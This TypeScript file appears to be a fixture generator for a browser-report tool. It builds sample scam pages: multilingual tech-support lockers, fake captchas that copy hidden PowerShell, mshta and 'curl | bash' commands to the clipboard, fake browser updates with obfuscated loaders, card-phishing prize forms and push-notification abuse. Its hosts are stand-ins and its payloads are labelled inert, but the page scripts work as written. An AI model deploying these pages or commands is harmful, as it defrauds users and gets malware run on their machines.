/** False alarms, captchas, updates, prizes and notifications. Commands name nothing that exists. */
import type { Builders, Saved } from '../browser-report.ts';
import { base64, charCodes, escaped, hexDigits, letters } from '../obfuscation.ts';
import { table } from '../words.ts';

const ALARMS = table(`
en|http://203.0.113.90/win/index.php?phone=+1-888-555-0142|Windows Defender Security Center|+1-888-555-0142|Trojan Spyware Alert - Error Code: #0x268d3(7). Access to this PC has been blocked for security reasons.|lock
en|https://mackeeper-alert.s3.us-east-2.amazonaws.com/Mac/index.html|Apple Security Center|1-855-555-0119|Your Mac is infected with (5) viruses. Do not ignore this critical alert.|loop
de|https://win-fehler-9912.azurewebsites.net/|Microsoft-Sicherheitswarnung|0800 555 0199|Ihr Computer wurde gesperrt. Schalten Sie ihn nicht aus. Rufen Sie den Microsoft-Support an.|lock
fr|https://alerte-windows-pc.web.app/?num=0175550144|Alerte de sécurité Windows|01 75 55 01 44|Votre ordinateur est bloqué : cheval de Troie détecté. Appelez immédiatement.|auth
es|http://soporte-pc.alerta-virus.ga/mx/|Alerta de Windows|55 5555 0187|Su equipo ha sido bloqueado. No apague ni reinicie.|loop
it|https://assistenza-pc.ondigitalocean.app/it|Avviso di sicurezza|02 5550 0171|Il computer è stato bloccato. Chiami subito l’assistenza Microsoft.|lock
ja|https://jp-support-keikoku.z13.web.core.windows.net/werrx01.html|Windows セキュリティシステムが破損しています|050-5550-0123|トロイの木馬スパイウェアに感染しました。電源を切らないでください。今すぐお電話ください。|lock
nl|https://beveiliging-melding.netlify.app/|Windows-beveiliging|085 555 0133|Uw pc is geblokkeerd. Bel direct met Microsoft.|auth
pt|http://alerta-seguranca.tk/br/|Alerta do Windows|0800 555 0101|Seu computador foi bloqueado! Ligue agora.|loop
en|http://fbi-gov.locked-browser.example/|FBI Department of Defense|MoneyPak $300|Your browser has been blocked due to viewing of forbidden content. Pay the fine within 12 hours.|police`);

const traps: Record<string, (phone: string, text: string, n: number) => string> = {
  lock: (phone, text, n) =>
    `<audio autoplay loop src="_Fm7-alert.mp3"></audio><div id="pop" class="modal"><h3>${text}</h3><p>${phone}</p><button>Cancel</button></div><script>function toggleFullScreen(){var e=document.documentElement;(e.requestFullscreen||e.webkitRequestFullScreen||e.mozRequestFullScreen).call(e);navigator.keyboard&&navigator.keyboard.lock()}document.body.addEventListener('click',toggleFullScreen);document.onkeydown=function(e){e.preventDefault();return false};document.addEventListener('contextmenu',function(e){e.preventDefault()});window.onbeforeunload=function(){return "${n}"};history.pushState(null,null,location.href);window.onpopstate=function(){history.go(1)};</script>`,
  loop: (phone, text) =>
    `<h1>${text}</h1><h2>☎ ${phone}</h2><script>function myFunction(){setInterval(function(){alert("${text}\\n\\n${phone}")},100)}window.onload=function(){for(var i=0;i<99999;i++){history.pushState(0,0,i.toString())}myFunction()};document.body.style.cursor='none'</script>`,
  auth: (phone, text) =>
    `<p>${text}</p><strong>${phone}</strong><iframe src="auth.php?realm=${encodeURIComponent(text)}" style="display:none"></iframe><script>var x=setInterval(function(){var f=document.createElement('iframe');f.src='auth.php?'+Math.random();f.style.display='none';document.body.appendChild(f)},1500);confirm("${text} ${phone}")||location.reload()</script><script>window.chatLive=1;(function(){var s=document.createElement("script");s.src="https://embed.tawk.to/${hexDigits(4, 24)}/default";document.head.appendChild(s)})()</script>`,
  police: (phone, text) =>
    `<img src="fbi.png"><p>${text}</p><form action="/pay.php" method="post"><select name="sys"><option>MoneyPak</option><option>Ukash</option></select><input name="code" maxlength="14" placeholder="${phone}"><input type="submit" value="PAY"></form><script>for(var i=0;i<150;i++){var f=document.createElement('iframe');f.src='stop.html';f.style.width='0px';document.body.appendChild(f)}window.onbeforeunload=function(){return 'YOUR BROWSER HAS BEEN LOCKED'}</script>`,
};

const command = (n: number) =>
  [
    `powershell -w hidden -c "iwr http://203.0.113.9${n}/inert.txt | Out-Null" # ✅ ''I am not a robot - reCAPTCHA Verification ID: ${n}8812''`,
    `mshta https://198.51.100.${n}/inert.html # Cloudflare Ray ID ${hexDigits(n, 8)}`,
    `cmd /c start /min powershell -enc ${base64('inert text of a fixture')}`,
    `curl -s https://203.0.113.${n}/inert.sh | bash`,
  ][n % 4];
const CAPTCHAS = table(`
en|https://human-check-cf.example/verify?id=9|Verify you are human|Press Windows Button + R|Press CTRL + V|Press Enter
de|https://www.reisebuero-sander.example/|Bestätigen Sie, dass Sie ein Mensch sind|Windows-Taste + R drücken|STRG + V drücken|Eingabetaste drücken
es|https://booking-huespedes.verifica-captcha.example/|Verifica que eres humano|Presiona la tecla Windows + R|Presiona CTRL + V|Presiona Enter
fr|https://pdf-converter-hub.example/fr|Vérifiez que vous êtes humain|Appuyez sur Windows + R|Appuyez sur CTRL + V|Appuyez sur Entrée
pl|https://filmy-hd.example/captcha|Potwierdź, że jesteś człowiekiem|Naciśnij klawisz Windows + R|Naciśnij CTRL + V|Naciśnij Enter
ru|https://igry-torrent.example/check|Подтвердите, что вы не робот|Нажмите Win + R|Нажмите Ctrl + V|Нажмите Enter
en|https://meet-google-fix.example/abc-defg|Microphone permission denied – How to fix|Open Terminal (Cmd + Space)|Paste (Cmd + V)|Press Return
tr|https://belge-goruntule.example/word|Word Online uzantısı yüklü değil|Windows + X tuşlarına basın, Terminal seçin|Sağ tıklayıp yapıştırın|Enter’a basın
zh|https://soft-down.example/yz|请验证您是真人|按 Windows 键 + R|按 Ctrl + V|按 Enter 键`);

const UPDATES: Saved[] = [
  [
    'https://www.wanderverein-eifel.example/touren',
    `<html lang="de"><head><title>Touren</title></head><body><p>Rundweg Monschau, 14 km</p><div id="fu" style="position:fixed;inset:0;background:#fff;z-index:2147483647"><img src="data:image/png;base64,iVBORw0KGgo"><h1>Sie verwenden eine ältere Version von Chrome</h1><p>Aktualisieren Sie jetzt, um Abstürze zu vermeiden.</p><a href="https://198.51.100.45/Chrome.Update.9912.zip" class="btn">Chrome aktualisieren</a></div></body></html>`,
  ],
  [
    'http://flash-player-update.download-center.example/',
    `<html><head><title>Adobe Flash Player is out of date</title></head><body><p>Latest version of Adobe Flash Player required to encode and/or decode audio files in high quality</p><a href="http://203.0.113.46/FlashPlayer.dmg">OK</a><script>setTimeout(function(){location.href="http://203.0.113.46/FlashPlayer.dmg"},1500);alert("Your Flash Player is out of date!")</script></body></html>`,
  ],
  [
    'https://www.gemeinde-thalwil-kultur.example/',
    `<html lang="fr"><head><title>Agenda culturel</title></head><body><p>Concert le 3 mai</p><script>;(function(){var o=document,w=window;if(w.localStorage.getItem('__utma_u'))return;w.localStorage.setItem('__utma_u',1);if(!/Windows/.test(navigator.userAgent))return;var s=o.createElement('script');s.src='https://203.0.113.47/report?r='+btoa('dj=${hexDigits(3, 30)}&cid=27');o.getElementsByTagName('head')[0].appendChild(s)})();</script></body></html>`,
  ],
  [
    'https://font-missing.example/blog',
    `<html><head><title>&#65533;&#65533;&#65533; bl&#65533;g</title></head><body><p>${letters(4, 300, '\ufffd▯ □')}</p><div class="chrome-popup"><h2>The "HoeflerText" font wasn't found.</h2><p>Step 1: Chrome_Font.exe</p><button onclick="document.getElementById('dl').click()">Update</button><form id="f" action="/font.php" method="post"><input type="hidden" name="info" value="${hexDigits(6, 40)}"></form><a id="dl" href="Font_Chrome.exe" download></a></div></body></html>`,
  ],
  [
    'https://firefox-esr.patch-now.example/en/',
    `<html><head><title>Critical Firefox update</title></head><body><h1>Update Firefox now</h1><p>firefox-patch.js</p><script>var c=[${charCodes('https://198.51.100.48/firefox-patch.js', 2)}];var u='';c.forEach(function(x){u+=String.fromCharCode(x-2)});setTimeout(function(){var f=document.createElement('iframe');f.style.display='none';f.src=u;document.body.appendChild(f)},800)</script></body></html>`,
  ],
];
const PRIZES: Saved[] = [
  [
    'https://lidl-jubilaeum.gewinn-heute.example/?z=9',
    `<html lang="de"><head><title>Lidl 50 Jahre</title></head><body><p>Glückwunsch! Sie wurden ausgewählt. Beantworten Sie 4 Fragen und erhalten Sie einen 500-€-Gutschein.</p><div id="boxes">🎁🎁🎁</div><script>var n=3;function box(){if(--n==1){alert('Sie haben gewonnen! Teilen Sie mit 5 Gruppen oder 20 Freunden auf WhatsApp.');location='whatsapp://send?text='+encodeURIComponent(location.href)}}</script></body></html>`,
  ],
  [
    'https://iphone15-vincitore.example/tim',
    `<html lang="it"><head><title>Gentile cliente TIM</title></head><body><p>Hai vinto un iPhone 15! Paga solo 1,95 € di spedizione. Scade tra <b id="c">2:59</b></p><form action="https://203.0.113.49/pay" method="post"><input name="nome"><input name="carta" autocomplete="cc-number"><input name="cvv"></form><script>window.navigator.vibrate&&navigator.vibrate([500,200,500])</script></body></html>`,
  ],
  [
    'https://kredi-basvuru.aninda-onay.example/',
    `<html lang="tr"><head><title>Faizsiz 50.000 TL</title></head><body><p>Ramazan kampanyası: faizsiz kredi</p><form action="islem.php" method="post"><input name="tc"><input name="sifre" type="password"><input name="kart"><input name="skt"><input name="cvv"></form></body></html>`,
  ],
  [
    'https://gazprom-invest.dohod-platform.example/',
    `<html lang="ru"><head><title>Газпром Инвестиции: от 120 000 ₽ в месяц</title></head><body><p>Илон Маск представил платформу Quantum AI. Осталось 7 мест.</p><form action="/leads/send.php" method="post"><input name="first_name"><input name="last_name"><input name="phone"><input name="email"><input type="hidden" name="aff" value="${hexDigits(9, 10)}"></form></body></html>`,
  ],
];
const PUSHES: Saved[] = [
  [
    'https://robot-captcha-click.example/?s1=99',
    `<html><head><title>Click Allow</title></head><body><h1>Click "Allow" to confirm that you are not a robot</h1><img src="arrow.gif"><script>Notification.requestPermission().then(function(p){if(p==='granted'){navigator.serviceWorker.register('/sw-check-permissions-${hexDigits(2, 4)}.js').then(function(r){return r.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:'B${hexDigits(3, 60)}'})}).then(function(s){fetch('https://203.0.113.55/sub',{method:'POST',body:JSON.stringify(s)});location='https://203.0.113.55/next'})}else{location.href='https://'+Math.random().toString(36).slice(2,6)+'.robot-captcha-click.example/'}})</script></body></html>`,
  ],
  [
    'https://video-play-now.example/watch',
    `<html lang="es"><head><title>Haga clic en Permitir para ver el vídeo</title></head><body><div class="player"><span>Cargando 99%</span></div><p>Pulse «Permitir» para continuar</p><script src="https://203.0.113.56/pfe/current/micro.tag.min.js?z=99&sw=/sw.js"></script><script>window.onbeforeunload=function(){return 'x'};setInterval(function(){Notification.permission!=='granted'&&Notification.requestPermission()},700)</script></body></html>`,
  ],
  [
    'https://plik-gotowy.example/d',
    `<html lang="pl"><head><title>Twój plik jest gotowy</title></head><body><p>Kliknij Zezwól, aby pobrać plik</p><script>eval(unescape('${escaped("navigator.serviceWorker.register('/s.js');Notification.requestPermission(function(r){top.location='https://203.0.113.57/?r='+r})")}'));document.addEventListener('click',function(){window.open('https://203.0.113.57/pop')})</script></body></html>`,
  ],
];
export const tricks = {
  alarm: () =>
    ALARMS.map(
      ([lang = '', url = '', title = '', phone = '', text = '', trap = 'loop'], n): Saved => [
        url,
        `<html lang="${lang}"><head><meta charset="utf-8"><title>${title}</title></head><body class="b${n}"><img src="images/def.png"><p>${text}</p>${traps[trap]?.(phone, text, n)}</body></html>`,
      ],
    ),
  captcha: () =>
    CAPTCHAS.map(([lang = '', url = '', title = '', ...steps], n): Saved => {
      const text = command(n) ?? '';
      const put =
        n % 3 === 0
          ? `navigator.clipboard.writeText(cmd)`
          : `var t=document.createElement("textarea");t.value=cmd;document.body.appendChild(t);t.select();document.execCommand("copy");document.body.removeChild(t)`;
      const source = n % 2 ? `atob("${base64(text)}")` : JSON.stringify(text);
      return [
        url,
        `<!DOCTYPE html><html lang="${lang}"><head><title>${n % 2 ? 'Just a moment...' : title}</title></head><body>${n === 1 ? '<h1>Reisebüro Sander</h1><p>Last Minute Kreta</p>' : ''}<div class="recaptcha-box"><div id="cb" class="checkbox"></div><span>${title}</span></div><div id="steps" style="display:none"><ol>${steps.map((step) => `<li>${step}</li>`).join('')}</ol></div><script>document.getElementById("cb").addEventListener("click",function(){var cmd=${source};${put};document.getElementById("steps").style.display="block"});</script></body></html>`,
      ];
    }),
  update: () => UPDATES,
  prize: () => PRIZES,
  push: () => PUSHES,
} satisfies Builders;
